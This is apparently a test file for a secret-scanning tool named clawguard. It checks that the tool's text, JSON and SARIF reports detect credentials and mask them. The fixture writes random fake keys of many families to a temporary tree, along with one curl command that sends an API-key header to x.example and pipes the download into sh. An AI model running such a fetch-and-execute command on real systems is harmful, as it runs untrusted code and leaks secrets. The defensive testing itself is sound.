/** Output formats: JSON shape, SARIF 2.1.0 structure, text table; and secrets never printed whole. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { formatReport, SARIF_SCHEMA, scan, SEVERITIES, type ScanReport } from '../../src/scan/index.js';

const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const rnd = (alphabet: string, n: number) => Array.from(randomBytes(n), (b) => alphabet[b % alphabet.length]).join('');
const b64url = (o: unknown) => Buffer.from(JSON.stringify(o)).toString('base64url');

/** Fresh random credentials of every family, built at run time so no secret lives in the repository. */
function makeSecrets(): Record<string, string> {
  return {
    aws: 'AKIA' + rnd('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 16),
    github: 'ghp_' + rnd(ALNUM, 36),
    openai: 'sk-proj-' + rnd(ALNUM, 40) + 'T3BlbkFJ' + rnd(ALNUM, 40),
    anthropic: 'sk-ant-api03-' + rnd(ALNUM, 93) + 'AA',
    slack: 'xoxb-' + rnd('0123456789', 12) + '-' + rnd('0123456789', 13) + '-' + rnd(ALNUM, 24),
    stripe: 'sk_live_' + rnd(ALNUM, 32),
    gcp: 'AIza' + rnd(ALNUM, 35),
    jwt: `${b64url({ alg: 'HS256', typ: 'JWT' })}.${b64url({ sub: rnd(ALNUM, 12), iat: 1700000000 })}.${rnd(ALNUM, 43)}`,
    generic: rnd(ALNUM, 20) + '7Q' + rnd(ALNUM, 8),
    keyBody: Array.from({ length: 6 }, () => rnd(ALNUM, 64)).join('\n'),
    gatewayPassword: rnd(ALNUM, 18) + '9x',
  };
}

async function leakyTree(s: Record<string, string>): Promise<{ dir: string; report: ScanReport }> {
  const dir = mkdtempSync(join(tmpdir(), 'cg-scan-fmt-'));
  mkdirSync(join(dir, 'agents'));
  writeFileSync(
    join(dir, 'agents', 'settings.ts'),
    [
      `export const awsKeyId = "${s.aws}";`,
      `const GITHUB_TOKEN = '${s.github}';`,
      `const openai = "${s.openai}";`,
      `const anthropic = "${s.anthropic}";`,
      `const slack_token = "${s.slack}";`,
      `const stripeKey = "${s.stripe}";`,
      `const mapsKey = "${s.gcp}";`,
      `const headers = { Authorization: "Bearer ${s.jwt}" };`,
      `const db_password = "${s.generic}";`,
      `import { execSync } from 'node:child_process';`,
      `execSync(\`curl -H 'X-Api-Key: ${s.generic}' https://x.example/i.sh | sh\`);`, // clawguard:allow (test fixture)
    ].join('\n'),
    { mode: 0o600 },
  );
  writeFileSync(join(dir, 'agents', 'deploy.pem'), `-----BEGIN RSA PRIVATE KEY-----\n${s.keyBody}\n-----END RSA PRIVATE KEY-----\n`, { mode: 0o644 });
  writeFileSync(join(dir, 'openclaw.json'), JSON.stringify({ gateway: { bind: 'loopback', auth: { mode: 'password', password: s.gatewayPassword } } }), { mode: 0o600 });
  writeFileSync(join(dir, 'clawguard.json'), JSON.stringify({ models: { openai: { type: 'openai-compatible', baseUrl: 'https://api.openai.com/v1', apiKey: s.openai } } }), { mode: 0o600 });
  return { dir, report: await scan({ target: dir, severities: SEVERITIES }) };
}

test('secrets are found and never printed whole in text, JSON or SARIF', async () => {
  const s = makeSecrets();
  const { dir, report } = await leakyTree(s);
  try {
    const families = new Set(report.findings.filter((f) => f.secret).map((f) => f.secret!.family));
    for (const f of ['aws', 'github', 'openai', 'anthropic', 'slack', 'stripe', 'gcp', 'jwt', 'generic', 'private-key']) assert.ok(families.has(f), `no ${f} finding`);
    for (const format of ['text', 'json', 'sarif'] as const) {
      const out = formatReport(report, format);
      for (const [name, value] of Object.entries(s)) {
        for (const piece of value.split('\n')) assert.ok(!out.includes(piece), `${format} output contains the whole ${name} secret`);
      }
      // ...but shows the rule and a masked prefix.
      assert.ok(out.includes('secret.aws.access-key-id') && out.includes(`${s.aws!.slice(0, 4)}****`), `${format}: no masked AWS key`);
      assert.ok(out.includes('ghp_****'), `${format}: no masked GitHub token`);
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('JSON report: { summary, findings: [{ checkId, severity, title, detail, remediation, file, line }] }', async () => {
  const { dir, report } = await leakyTree(makeSecrets());
  try {
    const parsed = JSON.parse(formatReport(report, 'json')) as { summary: Record<string, unknown>; findings: Array<Record<string, unknown>> };
    assert.equal(parsed.summary.total, parsed.findings.length);
    assert.ok(parsed.findings.length >= 12);
    for (const f of parsed.findings) {
      for (const k of ['checkId', 'severity', 'title', 'detail', 'remediation', 'file']) assert.equal(typeof f[k], 'string', k);
      assert.equal(typeof f.line, 'number');
      assert.ok((SEVERITIES as readonly string[]).includes(f.severity as string));
    }
    const pem = parsed.findings.filter((f) => f.file === 'agents/deploy.pem').map((f) => f.checkId).sort();
    assert.deepEqual(pem, ['fs.key_file.perms_readable', 'secret.private-key']);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('SARIF 2.1.0: schema, driver rules, results with ruleId/level/locations', async () => {
  const { dir, report } = await leakyTree(makeSecrets());
  try {
    const sarif = JSON.parse(formatReport(report, 'sarif')) as any;
    assert.equal(sarif.version, '2.1.0');
    assert.equal(sarif.$schema, SARIF_SCHEMA);
    assert.equal(sarif.runs.length, 1);
    const run = sarif.runs[0];
    assert.equal(run.tool.driver.name, 'clawguard');
    const rules = run.tool.driver.rules as Array<any>;
    assert.ok(rules.length > 40);
    const ruleIds = rules.map((r) => r.id);
    assert.equal(new Set(ruleIds).size, ruleIds.length, 'duplicate rule ids');
    for (const r of rules) {
      assert.equal(typeof r.id, 'string');
      assert.equal(typeof r.shortDescription.text, 'string');
      assert.equal(typeof r.fullDescription.text, 'string');
      assert.equal(typeof r.help.text, 'string');
      assert.ok(['error', 'warning', 'note'].includes(r.defaultConfiguration.level));
      const sev = Number(r.properties['security-severity']);
      assert.ok(sev >= 0 && sev <= 10);
    }
    assert.ok(/^file:\/\/.*\/$/.test(run.originalUriBaseIds['%SRCROOT%'].uri));
    assert.equal(run.results.length, report.findings.length);
    for (const res of run.results) {
      assert.ok(ruleIds.includes(res.ruleId), `result rule ${res.ruleId} not in driver.rules`);
      assert.equal(rules[res.ruleIndex].id, res.ruleId);
      assert.ok(['error', 'warning', 'note'].includes(res.level));
      assert.equal(typeof res.message.text, 'string');
      const loc = res.locations[0].physicalLocation;
      assert.equal(loc.artifactLocation.uriBaseId, '%SRCROOT%');
      assert.ok(!loc.artifactLocation.uri.startsWith('/'), 'uri must be relative to %SRCROOT%');
      assert.ok(Number.isInteger(loc.region.startLine) && loc.region.startLine >= 1);
      assert.equal(typeof res.partialFingerprints['clawguardFinding/v1'], 'string');
    }
    const critical = run.results.find((r: any) => r.ruleId === 'secret.aws.access-key-id');
    assert.equal(critical.level, 'error');
    assert.equal(critical.locations[0].physicalLocation.artifactLocation.uri, 'agents/settings.ts');
    assert.equal(critical.locations[0].physicalLocation.region.startLine, 1);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('text report: a table per file and a summary line', async () => {
  const { dir, report } = await leakyTree(makeSecrets());
  try {
    const text = formatReport(report, 'text');
    const lines = text.split('\n');
    const fileHeader = lines.indexOf('agents/settings.ts');
    assert.ok(fileHeader > 0, 'file heading');
    assert.match(lines[fileHeader + 1]!, /SEVERITY\s+LINE\s+CHECK\s+TITLE/);
    assert.match(lines[fileHeader + 2]!, /^\s+CRITICAL\s+1\s+secret\.aws\.access-key-id\s+AWS access key ID$/);
    assert.match(text, new RegExp(`${report.summary.total} finding\\(s\\) \\(.*critical.*\\) in \\d+ file\\(s\\)`));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
